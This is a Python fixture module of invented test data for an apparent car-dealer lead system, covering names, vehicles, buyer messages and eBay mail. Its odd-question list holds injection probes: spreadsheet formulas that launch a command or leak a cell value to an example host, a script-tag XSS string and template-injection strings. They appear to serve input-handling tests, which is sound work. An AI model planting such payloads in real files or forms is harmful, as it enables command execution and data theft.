"""What the invented people are called, drive and write. Nobody here exists."""

FIRST_NAMES = (
    "Ava", "Ben", "Carla", "Dmitri", "Elif", "Farid", "Grace", "Hiro", "Imani", "Jonas", "Keiko", "Liam", "Mona",
    "Noor", "Otto", "Priya", "Quinn", "Rosa", "Sven", "Tessa", "Uma", "Viktor", "Wen", "Ximena", "Yusuf", "Zoë",
    "Łukasz", "Anne-Marie", "美咲", "محمد",
)  # fmt: skip
LAST_NAMES = (
    "Abbott", "Bianchi", "Castillo", "Dubois", "Eriksen", "Fischer", "Garcia", "Hughes", "Ito", "Jensen", "Kowalski",
    "Larsen", "Moreau", "Nakamura", "O'Brien", "Petrov", "Quist", "Rossi", "Silva", "Tanaka", "Umarov", "Vogel",
    "Weber", "Xu", "Yilmaz", "Zielińska", "von der Heide", "佐藤", "الحسن",
)  # fmt: skip
HANDLES = (
    ("amber", "brisk", "cedar", "dusty", "early", "faded", "gravel", "harbor", "ivory", "jolly", "keen", "lucky",
     "mellow", "north", "olive", "prairie", "quiet", "rusty", "silver", "tidal"),
    ("axle", "badger", "camper", "driver", "engine", "fender", "garage", "heron", "jeep", "kettle", "lantern", "motor",
     "nomad", "otter", "pickup", "rambler", "sparrow", "towhook", "wagon", "wrench"),
)  # fmt: skip
MAIL_DOMAINS = ("example.com", "example.org", "example.net", "mail.example", "inbox.test")
MEMBER_DOMAIN = "members.ebay.example"  # the form of a forwarding alias: a key inside eBay only
POSTAL_CODES = ("60614", "02134", "73301", "98101", "10001", "33109", "K1A 0B1", "60614-2201", "04005")
AREA_CODES = ("312", "773", "847", "414", "515", "617")

VEHICLES = (
    ("Ford", "F-150 XLT"), ("Chevrolet", "Silverado 1500"), ("Toyota", "Tacoma TRD"), ("Honda", "Civic EX"),
    ("BMW", "330i"), ("Subaru", "Outback"), ("Jeep", "Wrangler Rubicon"), ("Volkswagen", "Golf GTI"),
    ("Mercedes-Benz", "C 300"), ("Land Rover", "Discovery"), ("Tesla", "Model 3"), ("Ram", "1500 Big Horn"),
    ("Mazda", "MX-5 Miata"), ("Airstream", "Classic 30"), ("Harley-Davidson", "Road King"), ("Porsche", "911 Carrera"),
)  # fmt: skip
TITLE_ENDS = (
    "clean title, one owner", "low miles", "4x4 & tow package", "no accidents", "“dealer maintained”", "as is",
    "w/ warranty", "must see <rare>", "très propre",
)  # fmt: skip

TRADE_INS = (
    ("Ford", "Escape"), ("chevy", "silverado"), (" bmw ", "3 series"), ("VW", "Golf"), ("Mercedes", "C300"),
    ("land rover", "Discovery"), ("Toyota", "camry"), ("HONDA", "CR-V"), ("N/A", ""), ("none", "-"),
    ("Chevrolet ", "Tahoe"), ("", "Corolla"), ("Hunday", "Elantra"), ("Škoda", "Octavia"),
    ("my old truck", "dont know"),
)  # fmt: skip
TRADE_IN_YEARS = ("2014", "2019", "2007", "1998", "'09", "09", "2019 ", "N/A", "-", "unknown", "", "2O11", "1965")

QUESTIONS = (
    "Hello, is the {car} still available? I could come by on Saturday morning to have a look at it.",
    "What is your best price on the {car}, out the door, including all fees and the title work?",
    "Does the {car} have any rust underneath? Could you send a few photos of the frame and the wheel wells?",
    "Hi! Has the {car} ever been in an accident, and do you have the service history? Thanks in advance.",
    "I am interested in the {car}. Do you ship to Wisconsin, and what would that cost roughly?",
    "Would you take my car in trade for the {car}? I can bring it over for an appraisal this week.",
    "Can I get an independent inspection of the {car} before I pay a deposit? My mechanic is in Oak Park.",
    "How many keys come with the {car}, and when are the brakes and tires due? It would be for my daughter.",
    "Please call me about the {car}, I work nights so the afternoon is best. I have my financing in place.",
    "Do you finance buyers with a short credit history? I would put half of the price of the {car} down.",
)
ODD_QUESTIONS = (
    "Is the {car} still there? 😀🚗💨 We love it!! 👨‍👩‍👧‍👦",
    '<b>Best price?</b><br>I\'d pay <i>cash</i> &amp; pick up the {car} <a href="https://www.example.com/">today</a>',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://www.example.com/?leak="&A1,"the {car}")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert('lead')</script> Is it available?",
    "First question: price?\nSecond question: miles?\r\n\r\n\tThank you,\nC.",
    "My wife said \"no\", I say 'yes' \\ so: what's the lowest for the {car}? 100% serious; a,b;c|d",
    "这辆车还在吗？最低价是多少？谢谢！",  # noqa: RUF001 -- it is Chinese punctuation
    "車はまだありますか？{car} を見たいです。",  # noqa: RUF001 -- it is Japanese punctuation
    "هل السيارة {car} لا تزال متاحة؟ شكرا",
    "האם ה-{car} עדיין למכירה?",
    "-12 C here today, does the heater of the {car} work?",
    "null",
    "Zażółć gęślą jaźń: naïve café façade, Straße, İstanbul \u200b\u00a0end",
    "{{price}} ${{7*7}} %s %(name)s {car}",
)
SPAM = (
    "Dear seller, we buy any vehicle sight unseen, fast wire payment. Write to buyers@spam.example today.",
    "GREAT DEALS on extended warranties!!! Visit https://warranty.example/now and save 70%",
)
REPLIES = (
    "Hi, thanks for asking! Yes, the {car} is on the lot. We are open until 7 pm, Saturday too; ask for Dana.",
    "Good morning, the price is as listed, no hidden fees. The title work is included. When would you like to see it?",
    "Thanks for your message. No rust, I just had it on the lift. Photos will follow as soon as the rain stops.",
    "Hello, one owner, no accidents, full history in the glove box. Happy to send you the report by e-mail.",
    "Yes, we can finance it with 20 % down. Call me at 312-555-0100 and we will do the paperwork on the phone.",
    "Sure, bring it over any day, the appraisal takes about half an hour and the coffee is on us.",
    "Sorry, that one was sold this morning. A very similar one arrives next week, shall I keep you posted?",
)
AUTO_REPLY = (
    "Thank you for contacting Cedar Lot Motors! This is an automatic confirmation: a member of our team will get back "
    "to you during business hours, Monday to Saturday 9 am to 7 pm."
)
OPENINGS = (
    "Hello, you saved our {car}. We could take 500 off this week if you are still interested.",
    "Hi, thank you for leaving your number for the {car}. I could not reach you, when is a good time to talk?",
)
FOLLOW_UPS = (
    "And what about the tires, how many miles are left on them?",
    "OK. Could you hold it until Friday if I pay a deposit?",
    "Would you go down a bit if I paid cash?",
    "Sounds good. Can I come at 5 pm tomorrow?",
    "Did you get my last message?",
)
THANKS = ("Thanks!", "thank you so much 🙏", "ok great, thx", "Perfect, see you then.")
OLD_QUESTIONS = ("Does it come with a spare tire?", "Is this the long bed?", "What color is the interior?")
MEDIA = (
    ("IMG_2041.jpg", "IMAGE"), ("frame left.png", "IMAGE"), ("carfax.pdf", "PDF"), ("offer.doc", "DOC"),
    ("notes.txt", "TXT"),
)  # fmt: skip
EBAY_SUBJECTS = (
    "Your invoice for {month} is ready", "A buyer saved your listing", "Your listing ends soon: {car}",
    "Changes to our user agreement", "Tips: answer leads faster",
)  # fmt: skip
EBAY_BODY = "<html><body><p>Hello {seller},</p><p>{subject}.</p><p>Do not reply to this message.</p></body></html>"
MAIL_SUBJECTS = (
    "Your eBay invoice is ready to view", "Important: verify your payout account", "You have a new feature & a tip",
    "Policy update: vehicles, parts & accessories", "We removed a bid retraction", "Your selling limit has changed",
)  # fmt: skip
STORES = ("Cedar Lot North", "Cedar Lot South & Service", "", None)
FEE_DESCRIPTIONS = ("Pay per lead", "Pay per lead: motors", "Lead fee (e-mail contact)")
CREDIT_DESCRIPTION = "Lead fee credit"
